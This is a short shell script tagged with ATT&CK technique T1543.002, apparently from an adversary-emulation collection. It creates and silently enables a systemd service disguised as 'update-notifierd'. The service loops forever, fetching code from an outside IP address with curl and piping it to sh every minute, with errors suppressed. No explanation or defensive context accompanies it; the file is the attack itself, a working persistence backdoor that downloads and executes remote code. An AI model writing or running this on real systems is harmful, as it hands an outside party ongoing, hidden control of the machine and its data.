# technique: T1543.002
# title: a service of their own
mkdir -p /etc/systemd/system
cat > /etc/systemd/system/update-notifierd.service <<'UNIT'
[Service]
ExecStart=/bin/sh -c 'while :; do curl -s http://203.0.113.9/x | sh; sleep 60; done'
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
systemctl enable update-notifierd.service 2>/dev/null || true
